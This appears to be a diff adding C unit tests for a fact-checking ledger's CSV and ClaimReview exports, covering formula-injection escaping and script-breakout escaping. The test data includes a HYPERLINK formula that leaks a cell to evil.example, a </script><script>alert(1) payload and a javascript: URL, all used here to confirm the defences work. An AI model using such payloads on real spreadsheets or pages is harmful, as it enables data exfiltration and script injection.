@@ -237,6 +237,43 @@ static void test_csv_quoting(void **state)
 	csv_expect("'single' ;semi; \ttab", "'single' ;semi; \ttab");
 }
 
+/* cl_csv_cell of `in` with `flags` into a memory stream, against `want`. */
+static void cell_expect(const char *in, unsigned flags, const char *want)
+{
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *m = open_memstream(&buf, &len);
+
+	assert_non_null(m);
+	assert_int_equal(cl_csv_cell(m, in, flags), CL_OK);
+	fclose(m);
+	assert_string_equal(buf, want);
+	free(buf);
+}
+
+/* OWASP's CSV injection guard: a leading ' on formula-leading cells. */
+static void test_csv_formula_guard(void **state)
+{
+	static const char link[] = "=HYPERLINK(\"https://evil.example/?d=\"&B2,\"source\")";
+
+	(void)state;
+	cell_expect(link, 0, "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"");
+	cell_expect(link, CL_CSV_RAW, "\"=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2,\"\"source\"\")\"");
+	cell_expect("=1+2", 0, "'=1+2");
+	cell_expect("+1", 0, "'+1");
+	cell_expect("-5% growth", 0, "'-5% growth");
+	cell_expect("@SUM(A1)", 0, "'@SUM(A1)");
+	cell_expect("\tcmd", 0, "'\tcmd");
+	cell_expect("\rcmd", 0, "\"'\rcmd\"");
+	cell_expect("-5,6", 0, "\"'-5,6\"");
+	cell_expect("=1+2", CL_CSV_RAW, "=1+2");
+	cell_expect("", 0, "");
+	cell_expect("a=b", 0, "a=b");
+	cell_expect(" =1", 0, " =1");
+	cell_expect("'quoted", 0, "'quoted");
+	cell_expect("2021-11-22", 0, "2021-11-22");
+}
+
 static void test_csv_export(void **state)
 {
 	struct fx *f = *state;
@@ -252,7 +289,7 @@ static void test_csv_export(void **state)
 	v = append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"misleading\"}", c);
 	m = open_memstream(&buf, &len);
 	assert_non_null(m);
-	assert_cl_ok(cl_facts_csv(f->l, m, &rows, &err), &err);
+	assert_cl_ok(cl_facts_csv(f->l, m, 0, &rows, &err), &err);
 	fclose(m);
 	assert_int_equal(rows, 1);
 	cl_hex_encode(hex, f->id[c], CL_HASH_BYTES);
@@ -340,6 +377,87 @@ static void test_claimreview(void **state)
 	cl_newsroom_free(&nr);
 }
 
+/* Append a record built and signed here, as another tool (or an older
+ * claimledger) would have: the store's URL policy does not apply. */
+static uint64_t append_signed(struct fx *f, const char *fmt, uint64_t ref)
+{
+	char hex[CL_ID_HEX + 1], text[2048], *body = NULL;
+	unsigned char sig[CL_SIG_BYTES];
+	cl_error err = { 0, "" };
+	cl_txn *t = NULL;
+	json_t *fields;
+	size_t len;
+
+	cl_hex_encode(hex, f->id[ref], CL_HASH_BYTES);
+	snprintf(text, sizeof text, fmt, hex);
+	fields = json_loads(text, 0, NULL);
+	if (fields == NULL)
+		fail_msg("not JSON: %s", text);
+	assert_cl_ok(cl_ledger_begin(f->l, &t, &err), &err);
+	assert_cl_ok(cl_record_build(fields, f->n, cl_chain_last_id(cl_txn_chain(t)),
+				     cl_seckey_pubkey(f->owner), T0 + (int64_t)f->n * 86400,
+				     &body, &len, &err), &err);
+	assert_cl_ok(cl_record_sign(f->owner, body, len, sig), &err);
+	assert_cl_ok(cl_txn_append_signed(t, body, len, sig, &err), &err);
+	assert_cl_ok(cl_txn_commit(t, &err), &err);
+	cl_record_id(f->id[f->n], body, len);
+	free(body);
+	json_decref(fields);
+	return f->n++;
+}
+
+/* Third-party text in the ClaimReview export: it goes into a <script>
+ * element, so no '<', '>' or '&' byte and no raw U+2028/U+2029 may come
+ * out, and the JSON still reads back to the same text; URL members that
+ * are not absolute http(s) URLs (an old ledger's) are left out. */
+static void test_claimreview_hostile(void **state)
+{
+	struct fx *f = *state;
+	cl_error err = { 0, "" };
+	char *buf = NULL;
+	size_t len = 0;
+	uint64_t c, n = 0;
+	json_t *a, *o, *it;
+	FILE *m;
+
+	append_signed(f, "{\"type\":\"config\",\"newsroom\":\"Desk <b>\","
+		      "\"url\":\"javascript:alert(1)//\"}", 0);
+	c = append_signed(f, "{\"type\":\"claim\",\"text\":\"</script><script>alert(1)"
+			  "</script> &amp; \\u2020\\u2028\\u2029\\u20ac\\u2028x\\u00e2\","
+			  "\"speaker\":\"Jane <i>Doe</i>\",\"source\":\"example-herald.com\","
+			  "\"date\":\"2021-11-22\"}", 0);
+	append(f, "{\"type\":\"verdict\",\"claim\":\"%s\",\"rating\":\"false\"}", c);
+	m = open_memstream(&buf, &len);
+	assert_cl_ok(cl_facts_claimreview(f->l, m, &n, &err), &err);
+	fclose(m);
+	assert_int_equal(n, 1);
+	assert_null(memchr(buf, '<', len));
+	assert_null(memchr(buf, '>', len));
+	assert_null(memchr(buf, '&', len));
+	assert_null(strstr(buf, "\xe2\x80\xa8"));
+	assert_null(strstr(buf, "\xe2\x80\xa9"));
+	assert_non_null(strstr(buf, "\"\\u003c/script\\u003e\\u003cscript\\u003e"));
+	assert_non_null(strstr(buf, "\\u0026amp;"));
+	assert_non_null(strstr(buf, "\xe2\x80\xa0\\u2028\\u2029\xe2\x82\xac\\u2028x\xc3\xa2\""));
+	a = json_loadb(buf, len, 0, NULL);
+	assert_non_null(a);
+	o = json_array_get(a, 0);
+	assert_string_equal(json_string_value(json_object_get(o, "claimReviewed")),
+			    "</script><script>alert(1)</script> &amp; "
+			    "\xe2\x80\xa0\xe2\x80\xa8\xe2\x80\xa9\xe2\x82\xac\xe2\x80\xa8x\xc3\xa2");
+	/* No url, no author url, no appearance: none of them is a URL. */
+	assert_null(json_object_get(o, "url"));
+	assert_null(json_object_get(json_object_get(o, "author"), "url"));
+	assert_string_equal(json_string_value(json_object_get(json_object_get(o, "author"), "name")),
+			    "Desk <b>");
+	it = json_object_get(o, "itemReviewed");
+	assert_null(json_object_get(it, "appearance"));
+	assert_string_equal(json_string_value(json_object_get(json_object_get(it, "author"), "name")),
+			    "Jane <i>Doe</i>");
+	json_decref(a);
+	free(buf);
+}
+
 static void test_speaker_kind(void **state)
 {
 	(void)state;
@@ -355,11 +473,13 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_scale),
 		cmocka_unit_test(test_csv_quoting),
+		cmocka_unit_test(test_csv_formula_guard),
 		cmocka_unit_test(test_speaker_kind),
 		cmocka_unit_test_setup_teardown(test_current_view, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_not_a_claim, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_csv_export, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_claimreview, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_claimreview_hostile, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
